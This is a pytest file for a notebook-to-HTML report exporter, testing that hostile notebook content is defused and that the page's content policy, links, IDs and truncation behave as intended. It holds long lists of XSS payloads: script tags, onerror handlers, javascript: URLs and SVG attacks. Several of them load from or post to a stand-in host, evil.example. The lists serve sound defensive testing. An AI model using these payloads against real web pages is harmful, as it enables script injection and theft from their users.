"""The page: what it says, in which order, and what a hostile notebook cannot make it do."""

import base64
import copy
import re
import struct
import subprocess
import sys
import zlib
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_output
from test_reporting_sample import CONTEXT, cell, executed_sample, notebook, text

from bench_utils.reporting.canonical import canonical
from bench_utils.reporting.exporter import render
from bench_utils.reporting.pictures import clean_png, safe_svg
from bench_utils.reporting.sanitize import clean_html, markdown_html

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"tEXt", b"Author\0grace at /home/grace")
    + chunk(b"IDAT", zlib.compress(b"\0\0"))
    + chunk(b"IEND", b"")
)


def shown(data: dict, bench: dict | None = None) -> nbformat.NotebookNode:
    """Return a report with one displayed output."""
    one = cell("show()")
    one.outputs = [new_output("display_data", data=data, metadata={"bench": bench} if bench else {})]
    return notebook(text("# T"), one)


def printing(name: str, words: str) -> nbformat.NotebookNode:
    one = cell("print()")
    one.outputs = [new_output("stream", name=name, text=words)]
    return notebook(text("# T"), one)


class _Auditor(HTMLParser):
    """Collects what could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "link",
            "base",
            "svg",
            "math",
            "video",
            "audio",
        }:
            self.bad.append(tag)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcset", "action", "formaction", "style", "xlink:href"):
                self.bad.append(f"{tag} {name}")
            if name == "src" and not value.startswith("data:image/"):
                self.bad.append(f"{tag} src={value}")
            if name == "href" and re.match(r"\s*(?:javascript|data|vbscript|file):", value, re.IGNORECASE):
                self.bad.append(f"{tag} href={value}")
            if name == "id":
                self.ids.append(value)


def audited(page: str) -> _Auditor:
    auditor = _Auditor()
    auditor.feed(page)
    assert auditor.bad == []
    assert len(auditor.ids) == len(set(auditor.ids))
    return auditor


def body(nb: nbformat.NotebookNode) -> str:
    """Return the audited page's main part."""
    page = render(nb)
    audited(page)
    return page[page.index("<main") : page.index("</main>")]


SCRIPT = "<script>alert(1)</script>"
HOSTILE_HTML = [
    SCRIPT,
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png' alt=x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4=' alt=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=x><button>go</button></form>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<div id='main' class='claims'>x</div>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</main></div></body></html><script>alert(1)</script>",
    "<object data='data:text/html,x'></object><embed src=x>",
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_output_is_defused(html: str) -> None:
    found = body(shown({"text/html": f"<p>before</p>{html}", "text/plain": "plain"}))
    assert "before" in found and "evil.example" not in found


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_hostile_html_in_markdown_is_defused(html: str) -> None:
    audited(render(notebook(text(f"# T\n\nwords\n\n{html}"), text(f"## {html}"))))


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "`<script>alert(1)</script>`",
        "```html\n</code></pre><script>alert(1)</script>\n```",
    ],
)
def test_hostile_markdown_is_defused(source: str) -> None:
    page = render(notebook(text("# T"), text(source)))
    audited(page)
    assert "evil.example" not in page


def test_what_markdown_is_for_survives() -> None:
    html = markdown_html("**b** `c` [l](notes.md) x<sup>2</sup>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two")
    for piece in (
        "<strong>b</strong>",
        "<code>c</code>",
        'href="notes.md"',
        "<sup>2</sup>",
        "<td>1</td>",
        "<ol>",
    ):
        assert piece in html
    assert 'tabindex="0"' in html  # a wide table scrolls in a region of its own


def test_a_frames_own_html_keeps_its_table() -> None:
    html = clean_html(
        "<div><style scoped>.x{}</style><table border=1 class=dataframe><tr><th colspan=2>a</th></tr></table></div>"
    )
    assert '<th colspan="2">a</th>' in html and "scoped" not in html and "border" not in html


@pytest.mark.parametrize("place", ["text/plain", "stdout", "stderr", "error", "code", "title"])
def test_hostile_text_stays_text(place: str) -> None:
    words = f"</pre></code></main>{SCRIPT}<img src=x onerror=alert(1)>"
    if place in ("stdout", "stderr"):
        nb = printing(place, words)
    elif place == "text/plain":
        nb = shown({"text/plain": words})
    elif place == "error":
        nb = notebook(text("# T"), cell("1"))
        nb.cells[1].outputs = [new_output("error", ename=words, evalue=words, traceback=[words])]
    else:
        nb = notebook(text(f"# {words}" if place == "title" else "# T"), cell(words))
    page = render(nb, context={"report": words, "device": words, "run": words})
    audited(page)
    assert SCRIPT not in page


BENCHES = [
    {"kind": "headline", "parts": [[SCRIPT, False], [SCRIPT, True]]},
    {"kind": "prose", "parts": [[SCRIPT, False], ['"><img src=x onerror=alert(1)>', True]]},
    {
        "kind": "claims",
        "claims": [
            {
                "id": SCRIPT,
                "text": SCRIPT,
                "verdict": "refuted",
                "reason": SCRIPT,
                "value": SCRIPT,
                "unit": SCRIPT,
            }
        ],
    },
    {"kind": "claims", "claims": [{"id": "C1", "text": "x", "verdict": f"supported'{SCRIPT}"}]},
    {"kind": "facts", "name": "provenance", "title": SCRIPT, "facts": [[SCRIPT, SCRIPT]]},
    {
        "kind": "table",
        "name": "t",
        "caption": SCRIPT,
        "columns": [["m", SCRIPT, False]],
        "rows": [{"m": SCRIPT}],
    },
    {
        "kind": "figure",
        "name": "f",
        "caption": SCRIPT,
        "alt": f'"{SCRIPT}',
        "columns": [["m", SCRIPT, False]],
        "rows": [{"m": SCRIPT}],
    },
    {"kind": "text", "name": "x", "caption": SCRIPT, "text": f"</pre>{SCRIPT}"},
]


@pytest.mark.parametrize("bench", BENCHES, ids=lambda bench: bench["kind"])
def test_model_names_claims_and_captions_are_text(bench: dict) -> None:
    nb = shown({"text/html": SCRIPT, "image/svg+xml": SVG, "text/plain": "plain"}, bench)
    page = render(nb)
    audited(page)
    assert SCRIPT not in page


@pytest.mark.parametrize(
    "bench",
    [
        {"kind": "figure"},
        {"kind": "headline", "parts": 3},
        {"kind": "headline", "parts": [["one"]]},
        {"kind": "table", "caption": "x", "columns": [[1]], "rows": []},
        {"kind": "table", "caption": "x", "columns": [["a", "a", False]], "rows": [3]},
        {"kind": "facts", "title": "x", "facts": {"a": 1}},
        {"kind": "text", "caption": "x"},
        {"kind": "unknown"},
        {"kind": ["headline"]},
        "headline",
        3,
    ],
)
def test_malformed_data_falls_back_to_text(bench: object) -> None:
    assert "fallback" in render(shown({"text/plain": "fallback"}, bench))


SVG_ATTACKS = [
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><p>x</p></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
    "<a xlink:href='javascript:alert(1)'><rect/></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/x.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><rect style='fill:url(https://evil.example)'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'https://evil.example';</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><animate attributeName='href' values='javascript:alert(1)'/></svg>",
    "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&a;</text></svg>",
    "<?xml-stylesheet href='https://evil.example/x.css'?><svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>",
    "<html><script>alert(1)</script></html>",
    "not a drawing",
]


@pytest.mark.parametrize("svg", SVG_ATTACKS)
def test_an_svg_that_runs_or_loads_is_not_used(svg: str) -> None:
    assert safe_svg(svg) is None or "evil" not in safe_svg(svg)
    png = base64.b64encode(PNG).decode()
    page = render(shown({"image/svg+xml": svg, "image/png": png, "text/plain": "x"}))
    audited(page)
    assert "evil" not in "".join(
        base64.b64decode(m).decode("latin-1") for m in re.findall(r"base64,([A-Za-z0-9+/=]+)", page)
    )


def test_svg_comes_before_png_and_keeps_its_drawing() -> None:
    page = render(shown({"image/svg+xml": f"<?xml version='1.0'?>\n<!-- note -->\n{SVG}", "image/png": "x"}))
    assert base64.b64encode(SVG.encode()).decode() in page


def test_texts_hidden_in_a_png_are_dropped() -> None:
    cleaned = clean_png(PNG)
    assert cleaned is not None and b"grace" not in cleaned and cleaned.endswith(chunk(b"IEND", b""))
    assert clean_png(b"<script>") is None
    assert "<img" not in render(shown({"image/png": "!!", "text/plain": "x"}))


@pytest.mark.parametrize(
    "kind",
    ["application/javascript", "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json"],
)
def test_scripts_and_widgets_are_dropped(kind: str) -> None:
    page = render(
        shown({kind: "alert(1)" if kind.endswith("javascript") else {"a": "alert(1)"}, "text/plain": "Widget()"})
    )
    assert "alert(1)" not in page
    assert ("Widget()" in page) == kind.endswith("v1+json")


def test_terminal_codes_and_endless_output_are_cut() -> None:
    page = body(printing("stdout", "\x1b[31mred\x1b[0m 1%\r99%\x00\x07\n" + "x" * 500_000))
    assert "99%" in page and "red" not in page and "\x1b" not in page
    assert len(page) < 40_000 and "more characters left out" in page


def test_a_huge_table_is_cut_and_says_so() -> None:
    rows = [{"a": i} for i in range(1000)]
    bench = {
        "kind": "table",
        "name": "t",
        "caption": "c",
        "columns": [["a", "a", True]],
        "rows": rows,
        "total": 52000,
    }
    page = body(shown({"text/plain": "x"}, bench))
    assert "51,800 more rows are left out here" in page and page.count("<tr>") == 201


def test_contents_lead_to_unique_places() -> None:
    page = render(executed_sample()[1], context=CONTEXT)
    ids = audited(page).ids
    targets = re.findall(r'<a href="#([^"]+)">', page)
    assert {"results", "results-2", "limits", "main", "top"} <= set(targets) | {"main", "top"}
    assert set(targets) <= set(ids)


def test_headings_cannot_take_the_places_of_the_template() -> None:
    ids = audited(render(notebook(text("# T"), text("## Main\n\n## Claims\n\n## !!!")))).ids
    assert {"main-2", "claims-2", "section"} <= set(ids)


def test_later_titles_are_sections() -> None:
    page = render(notebook(text("# First"), text("# Second")))
    assert page.count("<h1") == 1 and '<h2 id="second">Second</h2>' in page and "<title>First</title>" in page


def test_a_notebook_without_a_title_takes_the_reports_name() -> None:
    assert "<h1>TR1</h1>" in render(notebook(cell("1")), context={"report": "TR1"})


def test_tags_hide_code_output_or_both() -> None:
    cells = [cell(f"code{i}", tag) for i, tag in enumerate(("remove-input", "remove-output", "remove-cell"))]
    for i, one in enumerate(cells):
        one.outputs = [new_output("stream", name="stdout", text=f"out{i}")]
    page = render(notebook(text("# T"), *cells))
    words = ("code0", "out0", "code1", "out1", "code2", "out2")
    assert [word for word in words if word in page] == ["out0", "code1"]


def test_code_is_folded_and_neighbours_share_one_fold() -> None:
    page = render(notebook(text("# T"), cell("a = 1"), cell("b = 2"), text("words"), cell("c = 3")))
    assert page.count('<details class="code">') == 2
    assert page.count("<pre") == 3


@pytest.mark.parametrize(
    "href", ["https://evil.example", "//evil.example", "javascript:alert(1)", "/etc/passwd", r"\\evil\x"]
)
def test_links_of_the_page_stay_beside_it(href: str) -> None:
    page = render(notebook(text("# T")), context={"index_href": href, "downloads": [("x", href), ("ok", "r.json")]})
    assert href not in page and 'href="r.json"' in page


def test_the_page_declares_its_policy_before_anything_else() -> None:
    page = render(executed_sample()[1], context=CONTEXT)
    policy = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
    head = page[: page.index("<title>")].replace("&#39;", "'")
    assert policy in head and head.index("Security-Policy") < head.index("viewport")
    assert "@import" not in page and "<script" not in page


def test_a_page_with_five_figures_is_small() -> None:
    nb = copy.deepcopy(executed_sample()[1])
    figures = [one for one in nb.cells if "show_figure" in one.source]
    nb.cells += [copy.deepcopy(figures[i % 2]) for i in range(3)]
    for index, one in enumerate(nb.cells):
        one["id"] = f"c{index}"
    page = render(nb, context=CONTEXT)
    assert page.count('<figure class="plot">') == 5
    assert len(page.encode()) < 300_000


def test_memory_addresses_and_cell_files_are_masked() -> None:
    page = body(printing("stderr", "/tmp/ipykernel_123/456.py:3: Warning at 0x7f3a2b1c4d5e"))
    assert "[cell]:3: Warning at 0x…" in page


def test_the_canonical_form_is_stable_and_bare() -> None:
    nb = copy.deepcopy(executed_sample()[1])
    nb.cells[3].metadata |= {"execution": {"iopub.status.busy": "2026"}, "collapsed": True}
    nb.metadata["widgets"] = {"state": {}}
    once = canonical(nb)
    assert canonical(once) == once
    assert [one["id"] for one in once.cells] == [f"c{i}" for i in range(len(once.cells))]
    assert {key for one in once.cells for key in one.metadata} <= {"tags"}
    assert set(once.metadata) == {"kernelspec", "language_info", "bench"}
    assert once.metadata["bench"]["outcome"]["status"] == "complete"


def test_nbconvert_knows_the_exporter(tmp_path: Path) -> None:
    nbformat.write(executed_sample()[1], tmp_path / "sample.ipynb")
    command = [sys.executable, "-m", "nbconvert", "--to", "bench-report", "sample.ipynb"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert '<p class="headline">' in (tmp_path / "sample.html").read_text(encoding="utf-8")
